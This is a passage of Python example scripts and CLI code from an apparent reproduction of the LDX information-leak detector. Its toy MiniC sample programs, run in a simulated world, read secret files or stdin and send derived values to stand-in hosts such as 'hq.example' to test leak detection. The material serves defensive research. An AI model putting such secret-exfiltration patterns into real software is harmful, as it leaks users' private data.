              f"master mtime={divergence.master} slave mtime={divergence.slave}")

    assert not result.report.causality_detected  # the channel is covert
    assert result.fs_divergences(include_metadata=True), "covert channel missed!"
    print("\nThe secret's parity leaks through the marker file's mtime — "
          "invisible to sink comparison, caught by metadata differencing.")


if __name__ == "__main__":
    main()
