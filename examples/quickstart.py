#!/usr/bin/env python3
"""Quickstart: detect an information leak with LDX.

This is the paper's running example (Fig. 2/3): a payroll program reads
an employee's title; the raise it reports to a remote site depends on
the title through *control* dependence only — classic dynamic taint
tools miss it, LDX's counterfactual dual execution catches it.

Run:  python examples/quickstart.py
"""

from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World

PAYROLL = """
fn SRaise(file) {
  var f = open(file, "r");
  var rate = parse_int(read(f, 8));
  close(f);
  return rate;
}

fn MRaise(age, salary) {
  var r = SRaise("/etc/mcontract");
  if (age > 5 and salary > 100) {
    var s = open("/var/seniors.txt", "a");
    write(s, "senior manager\\n");
    close(s);
  }
  return r + 5;
}

fn main() {
  var name = str_strip(read_line(0));
  var title = str_strip(read_line(0));
  var raise = 0;
  if (title == "STAFF") {
    raise = SRaise("/etc/contract");
  } else {
    raise = MRaise(7, 150);
  }
  var sock = socket();
  connect(sock, "hq.example", 443);
  send(sock, name);
  send(sock, raise);
}
"""


def build_world() -> World:
    world = World(seed=1)
    world.stdin = "alice\nSTAFF\n"
    world.fs.add_file("/etc/contract", "3")
    world.fs.add_file("/etc/mcontract", "9")
    world.fs.add_file("/var/seniors.txt", "")
    world.network.register("hq.example", 443, lambda request: "")
    return world


def title_mutation(value):
    """Perturb the secret: STAFF -> MANAGER (the paper's example)."""
    if isinstance(value, str) and "STAFF" in value:
        return value.replace("STAFF", "MANAGER")
    return value


def main() -> None:
    # 1. Compile and instrument (the LLVM pass of the paper, here on
    #    the MiniC IR).
    module = compile_source(PAYROLL)
    instrumented = instrument_module(module)
    stats = instrumented.static_stats()
    print(f"instrumented {stats['instrumented_sites']} sites "
          f"({stats['instrumented_pct']}% of {stats['total_instructions']} instrs), "
          f"max static counter {stats['max_static_counter']}")

    # 2. Configure: the secret is on stdin; sinks are outgoing sends.
    config = LdxConfig(
        sources=SourceSpec(stdin=True, mutators={"stdin": title_mutation}),
        sinks=SinkSpec.network_out(),
    )

    # 3. Dual-execute.
    result = run_dual(instrumented, build_world(), config)

    # 4. Inspect.
    print()
    print(result.report.summary())
    for detection in result.report.detections:
        print(f"  {detection.kind}: {detection.syscall} "
              f"master={detection.master_args} slave={detection.slave_args}")
    print()
    print(f"master time {result.master.time:.0f}, "
          f"slave time {result.slave.time:.0f}, "
          f"dual (2 CPUs) {result.dual_time:.0f} virtual units")
    assert result.report.causality_detected, "the raise should leak the title!"
    print("\nLeak detected: the raise value is causally dependent on the title.")


if __name__ == "__main__":
    main()
