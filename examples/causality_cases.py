#!/usr/bin/env python3
"""Figure 1's four causality cases, run through LDX and the taint tools.

(a) data dependence          -> strong CC: everyone detects it
(b) control dependence       -> strong CC: LDX detects, taint misses
(c) weak control dependence  -> weak CC:   LDX stays silent (correctly)
(d) missing update           -> strong CC missed even by data+control
                                 dependence tracking; LDX detects it

Run:  python examples/causality_cases.py
"""

from repro.baselines.taint import run_taint
from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World

CASES = {
    "(a) data dependence": (
        """
        fn main() {
          var fd = open("/secret", "r");
          var x = parse_int(read(fd, 8));
          close(fd);
          var y = x * 2 + 1;          // y = f(x): one-to-one
          var s = socket();
          connect(s, "sink", 1);
          send(s, y);
        }
        """,
        "7",
    ),
    "(b) strong control dependence": (
        """
        fn main() {
          var fd = open("/secret", "r");
          var x = parse_int(read(fd, 8));
          close(fd);
          var s = 0;
          if (x == 7) { s = 10; } else { s = 20; }   // s determined by x
          var sock = socket();
          connect(sock, "sink", 1);
          send(sock, s);
        }
        """,
        "7",
    ),
    "(c) weak control dependence": (
        """
        fn main() {
          var fd = open("/secret", "r");
          var s = parse_int(read(fd, 8));
          close(fd);
          var x = 0;
          if (s > 0) { x = 1; }      // many s values -> same x
          var sock = socket();
          connect(sock, "sink", 1);
          send(sock, x);
        }
        """,
        "50",
    ),
    "(d) missing update": (
        """
        fn main() {
          var fd = open("/secret", "r");
          var s = parse_int(read(fd, 8));
          close(fd);
          var x = 0;
          if (s == 10) { } else { x = 1; }   // absence of update leaks s
          var sock = socket();
          connect(sock, "sink", 1);
          send(sock, x);
        }
        """,
        "10",
    ),
}


def build_world(secret: str) -> World:
    world = World(seed=1)
    world.fs.add_file("/secret", secret)
    world.network.register("sink", 1, lambda request: "")
    return world


def main() -> None:
    config = LdxConfig(
        sources=SourceSpec(file_paths={"/secret"}),
        sinks=SinkSpec.network_out(),
    )
    print(f"{'case':34} {'LDX':>6} {'TaintGrind':>11} {'LIBDFT':>7}")
    for name, (source, secret) in CASES.items():
        module = compile_source(source)
        ldx = run_dual(instrument_module(module), build_world(secret), config)
        taintgrind = run_taint(module, build_world(secret), config, "taintgrind")
        libdft = run_taint(module, build_world(secret), config, "libdft")
        print(
            f"{name:34} "
            f"{'LEAK' if ldx.report.causality_detected else '-':>6} "
            f"{'LEAK' if taintgrind.tainted_sinks else '-':>11} "
            f"{'LEAK' if libdft.tainted_sinks else '-':>7}"
        )
    print(
        "\nNote (c): the off-by-one mutation 50->51 keeps the predicate "
        "outcome, so LDX correctly reports no *strong* causality where "
        "control-dependence tainting would cry wolf."
    )


if __name__ == "__main__":
    main()
