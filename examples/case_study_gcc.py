#!/usr/bin/env python3
"""Section 8.4's 403.gcc case study.

The preprocessor model reads a define table (-D flags); the secret is
NGX_HAVE_POLL.  In the slave the define is perturbed, the ``#if``
regions flip, and the emitted preprocessed code differs — a leak that
flows purely through control dependence (the connection between the
stored define value and the skip decision), which breaks taint
propagation in LIBDFT and TaintGrind.

Run:  python examples/case_study_gcc.py
"""

from repro.baselines.taint import run_taint
from repro.core import run_dual
from repro.workloads import get_workload


def main() -> None:
    workload = get_workload("gcc")
    print("input source (nginx-like):")
    world = workload.build_world(1)
    print(world.fs.file("/spec/gcc/input.c").content)
    print("defines (the secret configuration):")
    print(world.fs.file("/spec/gcc/defines.cfg").content)

    result = run_dual(workload.instrumented, workload.build_world(1), workload.config())
    print("LDX:", result.report.summary())
    for detection in result.report.detections:
        print(f"  {detection.kind}: master={detection.master_args} "
              f"slave={detection.slave_args}")

    print("\nmaster's preprocessed output:")
    print(result.master.kernel.world.fs.file("/spec/gcc/preprocessed.i").content)
    print("slave's preprocessed output (NGX_HAVE_POLL perturbed):")
    print(result.slave.kernel.world.fs.file("/spec/gcc/preprocessed.i").content)

    for tool in ("taintgrind", "libdft"):
        taint = run_taint(
            workload.module, workload.build_world(1), workload.config(), tool
        )
        print(f"{tool}: {taint.tainted_sinks}/{taint.sinks_total} sinks tainted "
              "(the control-dependent flow is invisible)")

    assert result.report.causality_detected
    print("\nLDX detects the leak; dependence-based tainting does not.")


if __name__ == "__main__":
    main()
