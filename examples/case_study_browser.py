#!/usr/bin/env python3
"""Section 8.4's Firefox/ShowIP case study.

The browser model is an event loop dispatching user events through a
handler table (the paper instrumented Firefox's event-handling
component and JS engine).  The ShowIP extension sends the current URL
to its lookup server — an information leak carried partly by control
flow (which handler runs) that dependence tainting misses.

Run:  python examples/case_study_browser.py
"""

from repro.baselines.taint import run_taint
from repro.core import run_dual
from repro.workloads import get_workload


def main() -> None:
    workload = get_workload("firefox")
    world = workload.build_world(1)
    print("browsing session (stdin events):")
    print(world.stdin)

    result = run_dual(workload.instrumented, workload.build_world(1), workload.config())
    print("LDX:", result.report.summary())
    for detection in result.report.detections:
        print(f"  {detection.kind}: {detection.syscall} "
              f"master={detection.master_args} slave={detection.slave_args}")

    print("\nmaster's rendered screen:")
    print(result.master.kernel.world.fs.file("/home/user/screen.txt").content)

    taintgrind = run_taint(
        workload.module, workload.build_world(1), workload.config(), "taintgrind"
    )
    print(f"taintgrind: {taintgrind.tainted_sinks}/{taintgrind.sinks_total} "
          "sinks tainted")

    assert result.report.causality_detected
    print("LDX detects the ShowIP URL exfiltration.")


if __name__ == "__main__":
    main()
