#!/usr/bin/env python3
"""Concurrent dual execution (Table 4 in miniature).

Runs each concurrent workload a handful of times with different
schedule seeds and shows how LDX's lock-order sharing keeps the
tainted-sink counts stable while low-level races wobble the
syscall-difference counts.

Run:  python examples/concurrency_inspection.py
"""

from repro.core import run_dual
from repro.workloads import workloads_by_category

RUNS = 10


def main() -> None:
    print(f"{'program':8} {'syscall diffs':>20} {'tainted sinks':>20}")
    for workload in workloads_by_category("concurrency"):
        diffs = []
        sinks = []
        for run in range(RUNS):
            result = run_dual(
                workload.instrumented,
                workload.build_world(1),
                workload.config(),
                master_seed=2 * run + 1,
                slave_seed=2 * run + 2,
            )
            diffs.append(result.report.syscall_diffs)
            sinks.append(result.report.tainted_sinks)
        print(
            f"{workload.name:8} "
            f"{f'{min(diffs)}..{max(diffs)}':>20} "
            f"{f'{min(sinks)}..{max(sinks)}':>20}"
        )
    print(
        f"\n({RUNS} seeded runs each; stable sink counts despite divergent "
        "schedules = the Section 7 concurrency control at work)"
    )


if __name__ == "__main__":
    main()
