#!/usr/bin/env python3
"""Attack detection over the vulnerable-program set.

The paper's second application: mutate untrusted inputs and check for
causality at function return addresses (buffer overflows) and at
memory-management parameters (integer overflows).  Each workload ships
an attack input; LDX flags the smashed state as causally dependent on
the untrusted source.

Run:  python examples/attack_detection.py
"""

from repro.core import run_dual
from repro.workloads import workloads_by_category


def main() -> None:
    print(f"{'program':10} {'CVE model':28} {'verdict':8} sink kinds")
    for workload in workloads_by_category("vuln"):
        result = run_dual(
            workload.instrumented, workload.build_world(1), workload.config()
        )
        kinds = sorted({d.kind for d in result.report.detections})
        sinks = sorted(
            {
                str(d.master_args[0]) if d.master_args else d.syscall
                for d in result.report.detections
            }
        )
        verdict = "ATTACK" if result.report.causality_detected else "clean"
        print(f"{workload.name:10} {workload.modeled_after:28} {verdict:8} {kinds}")
        for detection in result.report.detections:
            print(
                f"    {detection.syscall}@{detection.where}: "
                f"master={detection.master_args} slave={detection.slave_args}"
            )
        assert result.report.causality_detected, workload.name
    print("\nAll six modelled CVEs detected via input-to-critical-state causality.")


if __name__ == "__main__":
    main()
