"""Command-line interface.

Usage::

    python -m repro leak program.mc --secret-file /etc/secret [options]
    python -m repro run  program.mc [--stdin TEXT] [--file PATH=CONTENT ...]
    python -m repro eval [--table4-runs N]

``leak`` dual-executes a MiniC program with LDX and reports causality;
``run`` executes it natively; ``eval`` regenerates the paper's tables.
"""

from __future__ import annotations

import argparse
import sys
from typing import List

from repro.baselines.native import run_native
from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World


def _build_world(args) -> World:
    world = World(seed=args.seed)
    world.stdin = args.stdin or ""
    for spec in args.file or []:
        if "=" not in spec:
            raise SystemExit(f"--file expects PATH=CONTENT, got {spec!r}")
        path, content = spec.split("=", 1)
        world.fs.add_file(path, content.replace("\\n", "\n"))
    for spec in args.endpoint or []:
        if "=" not in spec:
            raise SystemExit(f"--endpoint expects HOST:PORT=REPLY, got {spec!r}")
        address, reply = spec.split("=", 1)
        host, port = address.rsplit(":", 1)
        world.network.register(host, int(port), lambda req, reply=reply: reply)
    return world


def _add_world_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("program", help="path to a MiniC source file")
    parser.add_argument("--stdin", default="", help="stdin content")
    parser.add_argument(
        "--file",
        action="append",
        metavar="PATH=CONTENT",
        help="add a virtual file (repeatable; \\n escapes allowed)",
    )
    parser.add_argument(
        "--endpoint",
        action="append",
        metavar="HOST:PORT=REPLY",
        help="register a network endpoint returning REPLY (repeatable)",
    )
    parser.add_argument("--seed", type=int, default=1, help="world seed")


def _cmd_run(args) -> int:
    source = open(args.program).read()
    result = run_native(compile_source(source), _build_world(args))
    sys.stdout.write(result.stdout)
    if result.exit_code:
        print(f"\n[exit code {result.exit_code}]")
    return 0


def _cmd_leak(args) -> int:
    source = open(args.program).read()
    instrumented = instrument_module(compile_source(source))
    sources = SourceSpec(
        file_paths=set(args.secret_file or []),
        stdin=args.secret_stdin,
        network=set(args.secret_endpoint or []),
        env_names=set(args.secret_env or []),
        labels=set(args.secret_label or []),
    )
    if sources.count == 0:
        raise SystemExit("specify at least one source (--secret-file, ...)")
    sinks = (
        SinkSpec.network_out() if args.sinks == "network" else SinkSpec.file_out()
    )
    result = run_dual(instrumented, _build_world(args), LdxConfig(sources, sinks))
    print(result.report.summary())
    for detection in result.report.detections:
        print(
            f"  {detection.kind}: {detection.syscall} at {detection.where} "
            f"master={detection.master_args} slave={detection.slave_args}"
        )
    return 1 if result.report.causality_detected else 0


def _cmd_eval(args) -> int:
    from repro.eval.runner import run_all

    print(run_all(table4_runs=args.table4_runs))
    return 0


def main(argv: List[str] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro", description="LDX causality inference (ASPLOS 2016 reproduction)"
    )
    commands = parser.add_subparsers(dest="command", required=True)

    run_parser = commands.add_parser("run", help="execute a MiniC program natively")
    _add_world_options(run_parser)
    run_parser.set_defaults(handler=_cmd_run)

    leak_parser = commands.add_parser(
        "leak", help="dual-execute with LDX and report causality"
    )
    _add_world_options(leak_parser)
    leak_parser.add_argument("--secret-file", action="append", metavar="PATH")
    leak_parser.add_argument("--secret-stdin", action="store_true")
    leak_parser.add_argument("--secret-endpoint", action="append", metavar="HOST:PORT")
    leak_parser.add_argument("--secret-env", action="append", metavar="NAME")
    leak_parser.add_argument("--secret-label", action="append", metavar="LABEL")
    leak_parser.add_argument(
        "--sinks", choices=("network", "file"), default="network"
    )
    leak_parser.set_defaults(handler=_cmd_leak)

    eval_parser = commands.add_parser("eval", help="regenerate the paper's tables")
    eval_parser.add_argument("--table4-runs", type=int, default=100)
    eval_parser.set_defaults(handler=_cmd_eval)

    args = parser.parse_args(argv)
    return args.handler(args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
