"""Command-line interface.

Usage::

    python -m repro leak program.mc --secret-file /etc/secret [options]
    python -m repro run  program.mc [--stdin TEXT] [--file PATH=CONTENT ...]
    python -m repro eval [--table4-runs N] [--check-static] [--no-store]
    python -m repro chaos [--seeds N] [--fault-rate R] [--resume]
    python -m repro report [--chaos | --trend [BENCH]] [--store-path PATH]
    python -m repro analyze program.mc | --workload NAME | --all [--dump-ir]
    python -m repro profile WORKLOAD [--top N] [--json PATH]
    python -m repro serve [--http PORT] [--workers N] [--queue-capacity N]
    python -m repro serve-chaos [--requests N] [--fault-rate R] [--url URL]
    python -m repro checkpoints prune [--max-entries N] [--max-age-hours H]

``leak`` dual-executes a MiniC program with LDX and reports causality;
``run`` executes it natively; ``eval`` regenerates the paper's tables
(``--check-static`` adds Table 5 and the soundness-oracle check);
``chaos`` sweeps fault-injection seeds across the workloads and checks
the robustness invariants (``--resume`` checkpoints finished cells and
restarts an interrupted sweep where it left off; Ctrl-C exits cleanly
with a resume hint); ``analyze`` runs the static causality analyzer
and lints without executing anything; ``profile`` runs one workload
with the opcode-level profiler and prints per-opcode count /
virtual-time histograms; ``serve`` runs the causality-as-a-service
daemon (stdin JSONL by default, localhost HTTP with ``--http``; see
docs/SERVICE.md); ``serve-chaos`` storms a service with concurrent
requests under injected faults and checks the service invariants;
``checkpoints prune`` garbage-collects the checkpoint store;
``report`` re-renders the eval tables, the chaos sweep or the
benchmark trend straight from the columnar results store — sub-second,
nothing executes.

``eval`` and ``chaos`` are **incremental** by default: every completed
cell persists into the results store (``--store-path``, default
``.repro-cache/results.sqlite``) keyed by workload source × variant ×
seeds × config, so a re-run executes only cells whose key is absent
and still renders a byte-identical report.  ``--no-store`` opts out.

``run``, ``eval``, ``chaos`` and ``profile`` accept ``--interp-backend
{switch,threaded}`` to pick the interpreter dispatch strategy (default
``threaded``).  Events, verdicts, clocks and reports are byte-identical
across backends; only wall-clock speed differs.

``eval``, ``chaos`` and ``serve-chaos`` accept ``--executor
{serial,local,multihost}`` / ``--nodes HOST,HOST,...`` to pick *where*
experiment cells run: in process, over a local process pool, or fanned
out to worker nodes on other machines (``localhost`` entries spawn
subprocess nodes; see docs/DISTRIBUTED.md).  Reports are byte-identical
across executors, node counts, and node failures mid-sweep.
"""

from __future__ import annotations

import argparse
import sys
from typing import List

from repro.baselines.native import run_native
from repro.core import FaultConfig, LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.errors import ReproError
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World


def _unescape(text: str) -> str:
    r"""Resolve --file CONTENT escapes: ``\n``/``\t`` become control
    characters, ``\\n`` a literal backslash-n (a blind ``.replace``
    would rewrite the latter to backslash-newline)."""
    out: List[str] = []
    index = 0
    while index < len(text):
        ch = text[index]
        if ch == "\\" and index + 1 < len(text):
            follower = text[index + 1]
            if follower == "n":
                out.append("\n")
                index += 2
                continue
            if follower == "t":
                out.append("\t")
                index += 2
                continue
            if follower == "\\":
                out.append("\\")
                index += 2
                continue
        out.append(ch)
        index += 1
    return "".join(out)


def _build_world(args) -> World:
    world = World(seed=args.seed)
    world.stdin = args.stdin or ""
    for spec in args.file or []:
        if "=" not in spec:
            raise SystemExit(f"--file expects PATH=CONTENT, got {spec!r}")
        path, content = spec.split("=", 1)
        world.fs.add_file(path, _unescape(content))
    for spec in args.endpoint or []:
        if "=" not in spec:
            raise SystemExit(f"--endpoint expects HOST:PORT=REPLY, got {spec!r}")
        address, reply = spec.split("=", 1)
        host, _, port_text = address.rpartition(":")
        if not host:
            raise SystemExit(
                f"--endpoint address must be HOST:PORT, got {address!r}"
            )
        try:
            port = int(port_text)
        except ValueError:
            raise SystemExit(
                f"--endpoint port must be an integer, got {port_text!r} in {spec!r}"
            ) from None
        world.network.register(host, port, lambda req, reply=reply: reply)
    return world


def _add_world_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("program", help="path to a MiniC source file")
    parser.add_argument("--stdin", default="", help="stdin content")
    parser.add_argument(
        "--file",
        action="append",
        metavar="PATH=CONTENT",
        help="add a virtual file (repeatable; \\n escapes allowed)",
    )
    parser.add_argument(
        "--endpoint",
        action="append",
        metavar="HOST:PORT=REPLY",
        help="register a network endpoint returning REPLY (repeatable)",
    )
    parser.add_argument("--seed", type=int, default=1, help="world seed")


def _jobs(text: str) -> int:
    try:
        value = int(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"invalid job count {text!r}")
    if value < 1:
        raise argparse.ArgumentTypeError(f"--jobs must be >= 1, got {text}")
    return value


def _add_cache_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--no-cache",
        action="store_true",
        help="disable the content-addressed artifact cache",
    )
    parser.add_argument(
        "--cache-dir",
        default=".repro-cache",
        metavar="DIR",
        help="on-disk artifact cache location (default: .repro-cache)",
    )


def _add_store_options(parser: argparse.ArgumentParser) -> None:
    from repro.results import DEFAULT_STORE_PATH

    parser.add_argument(
        "--store-path",
        default=DEFAULT_STORE_PATH,
        metavar="PATH",
        help="columnar results store; completed cells persist there and "
        f"re-runs execute only missing cells (default: {DEFAULT_STORE_PATH})",
    )
    parser.add_argument(
        "--no-store",
        action="store_true",
        help="skip the results store entirely (every cell executes)",
    )


def _open_store(args):
    """The ResultsStore the flags ask for, or None with --no-store."""
    if args.no_store:
        return None
    from repro.results import ResultsStore

    return ResultsStore(args.store_path)


def _add_executor_options(parser: argparse.ArgumentParser) -> None:
    from repro.eval.executors import EXECUTOR_NAMES

    parser.add_argument(
        "--executor",
        choices=EXECUTOR_NAMES,
        default=None,
        help="cell execution backend (default: serial for --jobs 1, a "
        "local process pool otherwise; multihost fans out to --nodes — "
        "output is byte-identical across all of them)",
    )
    parser.add_argument(
        "--nodes",
        metavar="HOST,HOST*N,...",
        default=None,
        help="worker nodes for --executor multihost (implies it): "
        "'localhost' spawns a subprocess node on this machine, anything "
        "else is reached over ssh; HOST*N repeats a host N times",
    )


def _make_executor(args):
    """The CellExecutor the flags ask for, or None (jobs-based default)."""
    from repro.eval.executors import make_executor

    return make_executor(
        getattr(args, "executor", None),
        jobs=getattr(args, "jobs", 1),
        nodes=getattr(args, "nodes", None),
        cache_dir=None if args.no_cache else args.cache_dir,
        cache_enabled=not args.no_cache,
    )


def _add_parallel_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--jobs",
        type=_jobs,
        default=1,
        metavar="N",
        help="worker processes for the evaluation fan-out (1 = serial; "
        "output is byte-identical for any value)",
    )
    _add_executor_options(parser)
    _add_cache_options(parser)


def _configure_cache(args) -> None:
    from repro import cache

    if args.no_cache:
        cache.configure(enabled=False)
    else:
        cache.configure(cache_dir=args.cache_dir)


def _add_backend_option(parser: argparse.ArgumentParser) -> None:
    from repro.interp import BACKENDS

    parser.add_argument(
        "--interp-backend",
        choices=sorted(BACKENDS),
        default="threaded",
        help="interpreter dispatch strategy (results are identical; "
        "threaded is faster)",
    )
    parser.add_argument(
        "--no-relevance",
        action="store_true",
        help="disable relevance-guided counter elision and fusion "
        "widening in the threaded backend (results are identical; "
        "the default is faster)",
    )


def _apply_backend(args) -> None:
    from repro.interp import set_default_backend, set_relevance_enabled

    set_default_backend(args.interp_backend)
    set_relevance_enabled(not getattr(args, "no_relevance", False))


def _rate(text: str) -> float:
    try:
        value = float(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"invalid rate {text!r}")
    if not 0.0 <= value <= 1.0:
        raise argparse.ArgumentTypeError(f"fault rate must be in [0, 1], got {text}")
    return value


def _add_fault_options(parser: argparse.ArgumentParser, default_rate: float) -> None:
    parser.add_argument(
        "--fault-seed",
        type=int,
        default=0,
        help="seed for the deterministic fault-injection plan",
    )
    parser.add_argument(
        "--fault-rate",
        type=_rate,
        default=default_rate,
        help="transient-fault probability per eligible syscall (0 disables)",
    )
    parser.add_argument(
        "--watchdog-deadline",
        type=float,
        default=25_000.0,
        help="virtual-time budget before the watchdog abandons a stalled thread",
    )


def _cmd_run(args) -> int:
    _apply_backend(args)
    source = open(args.program).read()
    result = run_native(
        compile_source(source), _build_world(args), profile=args.profile_interp
    )
    sys.stdout.write(result.stdout)
    if result.exit_code:
        print(f"\n[exit code {result.exit_code}]")
    if args.profile_interp:
        from repro.interp import render_profile

        # Keep stdout reserved for the program's own output.
        print(render_profile(result.stats, "native", top=args.top), file=sys.stderr)
    return 0


def _cmd_leak(args) -> int:
    source = open(args.program).read()
    instrumented = instrument_module(compile_source(source))
    sources = SourceSpec(
        file_paths=set(args.secret_file or []),
        stdin=args.secret_stdin,
        network=set(args.secret_endpoint or []),
        env_names=set(args.secret_env or []),
        labels=set(args.secret_label or []),
    )
    if sources.count == 0:
        raise SystemExit("specify at least one source (--secret-file, ...)")
    sinks = (
        SinkSpec.network_out() if args.sinks == "network" else SinkSpec.file_out()
    )
    faults = None
    if args.fault_rate > 0.0:
        faults = FaultConfig(seed=args.fault_seed, rate=args.fault_rate)
    result = run_dual(
        instrumented,
        _build_world(args),
        LdxConfig(sources, sinks),
        faults=faults,
        watchdog_deadline=args.watchdog_deadline,
    )
    print(result.report.summary())
    if faults is not None or result.degradation.degraded:
        print(result.degradation.summary())
    for detection in result.report.detections:
        print(
            f"  {detection.kind}: {detection.syscall} at {detection.where} "
            f"master={detection.master_args} slave={detection.slave_args}"
        )
    return 1 if result.report.causality_detected else 0


def _cmd_profile(args) -> int:
    import json

    from repro.interp import profiles_payload, render_profiles
    from repro.workloads import get_workload

    _apply_backend(args)
    workload = get_workload(args.workload)
    instrumented = workload.instrumented
    world = workload.build_world(args.seed)

    native = run_native(
        instrumented.module,
        workload.build_world(args.seed),
        plan=instrumented.plan,
        profile=True,
    )
    dual = run_dual(instrumented, world, workload.config(), profile=True)

    sections = [
        ("native (instrumented)", native.stats),
        ("master", dual.master.stats),
        ("slave", dual.slave.stats),
    ]
    relevance = instrumented.plan.relevance
    pruned_by_function = {
        name: fn_rel.prunable_count
        for name, fn_rel in sorted(relevance.functions.items())
        if fn_rel.prunable_count
    }
    print(f"workload: {workload.name}  backend: {args.interp_backend}")
    print(
        f"pruned counter updates: {relevance.prunable_count}"
        + (
            " ("
            + ", ".join(f"{n}: {c}" for n, c in pruned_by_function.items())
            + ")"
            if pruned_by_function
            else ""
        )
    )
    print(render_profiles(sections, top=args.top))
    if args.json:
        payload = profiles_payload(
            sections, workload=workload.name, backend=args.interp_backend
        )
        payload["pruned_edge_updates"] = {
            "total": relevance.prunable_count,
            "functions": pruned_by_function,
        }
        with open(args.json, "w") as handle:
            json.dump(payload, handle, indent=2, sort_keys=True)
            handle.write("\n")
    return 0


def _cmd_eval(args) -> int:
    from repro.eval.runner import run_all

    _apply_backend(args)
    _configure_cache(args)
    executor = _make_executor(args)
    try:
        result = run_all(
            table4_runs=args.table4_runs,
            jobs=args.jobs,
            cache_dir=None if args.no_cache else args.cache_dir,
            use_cache=not args.no_cache,
            check_static=args.check_static,
            table5_path=args.table5_json,
            store_path=None if args.no_store else args.store_path,
            executor=executor,
        )
    except KeyboardInterrupt:
        # Graceful Ctrl-C: with a results store every finished cell was
        # persisted as it streamed back (run_cells printed the partial
        # counts), so point at the reuse path instead of a traceback.
        if args.no_store:
            print(
                "\neval: interrupted — nothing was persisted (the results "
                "store was disabled with --no-store)",
                file=sys.stderr,
            )
        else:
            print(
                "\neval: interrupted — finished cells are persisted in the "
                f"results store ({args.store_path}); rerun the same command "
                "to reuse them",
                file=sys.stderr,
            )
        return 130
    finally:
        if executor is not None:
            executor.close()
    print(result.report)
    if not result.static_ok:
        print(
            "eval: soundness violations — dynamic detections outside the "
            "static may-depend set (see Table 5)",
            file=sys.stderr,
        )
        return 1
    return 0


def _analysis_targets(args) -> List[tuple]:
    """(name, source, config) triples for every requested program."""
    from repro.workloads import ALL_WORKLOADS, get_workload

    targets: List[tuple] = []
    for path in args.programs:
        targets.append((path, open(path).read(), None))
    for name in args.workload or []:
        workload = get_workload(name)
        targets.append((workload.name, workload.source, workload.config()))
    if args.all_workloads:
        for workload in ALL_WORKLOADS:
            targets.append((workload.name, workload.source, workload.config()))
    if not targets:
        raise SystemExit("analyze: give PROGRAM files, --workload NAME, or --all")
    return targets


def _cmd_analyze(args) -> int:
    from repro.analysis import analyze_source, render_analysis
    from repro.ir.printer import format_module

    _configure_cache(args)
    analyses = []
    chunks: List[str] = []
    for name, source, config in _analysis_targets(args):
        analysis = analyze_source(source, config, name)
        analyses.append(analysis)
        chunks.append(
            render_analysis(
                analysis, verbose=args.verbose, relevance=args.relevance
            )
        )
        if args.dump_ir:
            chunks.append(format_module(compile_source(source), analysis.annotate))
    print("\n".join(chunks), end="")

    if args.json:
        import json

        payload = {
            "schema": "ldx-analyze-v2",
            "programs": [
                {
                    "name": analysis.name,
                    "diagnostics": sorted(analysis.diagnostic_keys()),
                    "flagged_sinks": sorted(
                        f"{fn}:{syscall}" for fn, syscall in analysis.flagged_sinks
                    ),
                    "sink_sites": len(analysis.sink_sites),
                    "may_abort": analysis.may_abort,
                    "races": list(analysis.races),
                    "relevance": {
                        "totals": dict(
                            sorted(analysis.relevance_totals.items())
                        ),
                        "functions": [
                            {
                                "name": row[0],
                                "instructions": row[1],
                                "relevant": row[2],
                                "elidable": row[3],
                                "fusible": row[4],
                                "summarizable": row[5],
                                "regions": row[6],
                                "pruned_edge_updates": row[7],
                            }
                            for row in analysis.relevance_functions
                        ],
                    },
                }
                for analysis in analyses
            ],
        }
        with open(args.json, "w") as handle:
            json.dump(payload, handle, indent=2, sort_keys=True)
            handle.write("\n")

    # Baseline comparison: one "<program>|<diagnostic key>" line each.
    current = sorted(
        {
            f"{analysis.name}|{key}"
            for analysis in analyses
            for key in analysis.diagnostic_keys()
        }
    )
    if args.write_baseline:
        with open(args.write_baseline, "w") as handle:
            handle.write("\n".join(current) + ("\n" if current else ""))
    status = 0
    known: set = set()
    if args.baseline:
        known = {
            line.strip()
            for line in open(args.baseline)
            if line.strip() and not line.startswith("#")
        }
        new = [key for key in current if key not in known]
        fixed = sorted(known - set(current))
        for key in fixed:
            print(f"analyze: baseline diagnostic no longer fires: {key}")
        if new:
            for key in new:
                print(f"analyze: NEW diagnostic (not in baseline): {key}")
            status = 1
    if args.strict:
        # Baselined findings are accepted debt: strict gates only on
        # warnings/errors the baseline does not already pin.
        loud = {
            f"{analysis.name}|{diagnostic.key()}"
            for analysis in analyses
            for diagnostic in analysis.diagnostics
            if diagnostic.severity in ("error", "warn")
        }
        if loud - known:
            status = 1
    return status


def _cmd_chaos(args) -> int:
    from repro.checkpoint import DEFAULT_CHECKPOINT_DIR
    from repro.eval.robustness import chaos_ok, render_chaos, run_chaos

    _apply_backend(args)
    _configure_cache(args)
    checkpoint_dir = args.checkpoint_dir
    if args.resume and checkpoint_dir is None:
        checkpoint_dir = DEFAULT_CHECKPOINT_DIR
    store = _open_store(args)
    executor = _make_executor(args)
    try:
        rows = run_chaos(
            names=args.workload or None,
            seeds=args.seeds,
            rate=args.fault_rate,
            watchdog_deadline=args.watchdog_deadline,
            jobs=args.jobs,
            checkpoint_dir=checkpoint_dir,
            store=store,
            executor=executor,
        )
    except KeyboardInterrupt:
        # Graceful Ctrl-C: finished cells are already on disk (when
        # checkpointing), so tell the user how to pick the sweep back
        # up instead of dumping a traceback.
        if checkpoint_dir is not None:
            print(
                "\nchaos: interrupted — finished cells are checkpointed "
                f"under {checkpoint_dir}; rerun with --resume to continue "
                "where the sweep left off",
                file=sys.stderr,
            )
        elif store is not None:
            print(
                "\nchaos: interrupted — finished cells are persisted in the "
                f"results store ({store.path}); rerun the same command to "
                "reuse them",
                file=sys.stderr,
